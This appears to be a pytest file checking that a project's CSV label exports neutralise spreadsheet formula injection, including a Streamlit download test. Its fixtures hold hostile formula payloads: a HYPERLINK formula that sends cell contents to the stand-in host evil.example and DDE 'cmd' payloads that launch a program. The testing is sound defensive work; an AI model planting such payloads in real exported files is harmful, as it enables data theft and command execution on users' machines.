"""Exports that cannot attack a spreadsheet, safetensors-only model loading, and names that
cannot reach outside their folders."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from rsad import api
from rsad.csvsafe import FORMULA_START
from rsad.ingest import load_batch

APP = str(Path(__file__).resolve().parents[1] / "app.py")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3 orders at night",
            "@SUM(A1:A9)", "\t=1+1 tab first", "\r=1+1 carriage return first"]


@pytest.fixture
def formula_store(store):
    df = pd.DataFrame({"case_id": ["=id1", "+id2", "-id3", "@id4", "id5", "id6"],
                       "behavior_description": FORMULAS, "is_anomaly": [1, 0, 1, 0, 1, 0],
                       "cmd": ["=cmd|' /C calc'!A0", "ok", "-1", "@x", "fine", "=1"], "rating": [-1, 2, 3, 4, 5, -5]})
    api.ingest_file(store, df.to_json(orient="records", lines=True).encode(), file_name="f.jsonl", name="formulas")
    return store


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def _is_number(cell: str) -> bool:
    """A spreadsheet reads '-1' as the number -1, not a formula."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_guarded(data: bytes) -> None:
    rows = _cells(data)
    text_col = rows[0].index("behavior_description")
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), cell
    assert [r[text_col] for r in rows[1:]] == ["'" + t for t in FORMULAS]


def test_csv_export_guards_formulas_and_reads_back_exactly(formula_store, tmp_path):
    api.export_labels(formula_store, tmp_path / "labels.csv")
    data = (tmp_path / "labels.csv").read_bytes()
    _assert_guarded(data)
    rows = _cells(data)
    assert rows[1][rows[0].index("meta_cmd")] == "'=cmd|' /C calc'!A0"
    assert [r[rows[0].index("meta_rating")] for r in rows[1:]][0] == "-1"  # numbers stay numbers
    back = load_batch(tmp_path / "labels.csv", label_required=True)
    assert back.texts == FORMULAS and back.ids[:4] == ["=id1", "+id2", "-id3", "@id4"]
    # Parquet is not opened by spreadsheets: it stays exact.
    api.export_labels(formula_store, tmp_path / "labels.parquet")
    assert pd.read_parquet(tmp_path / "labels.parquet")["behavior_description"].tolist() == FORMULAS


def test_labels_page_csv_download_guards_formulas(formula_store, monkeypatch):
    downloads: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def capture(self, data, mimetype, kind, filename=None):  # noqa: ANN001, ANN202
        downloads[filename] = data
        return original(self, data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", capture)
    at = AppTest.from_file(APP, default_timeout=180)
    at.run()
    at.switch_page("views/labels.py").run()
    assert not at.exception and not at.error
    _assert_guarded(downloads["rsad-labels.csv"])
    assert pd.read_parquet(io.BytesIO(downloads["rsad-labels.parquet"]))["behavior_description"].tolist() == FORMULAS
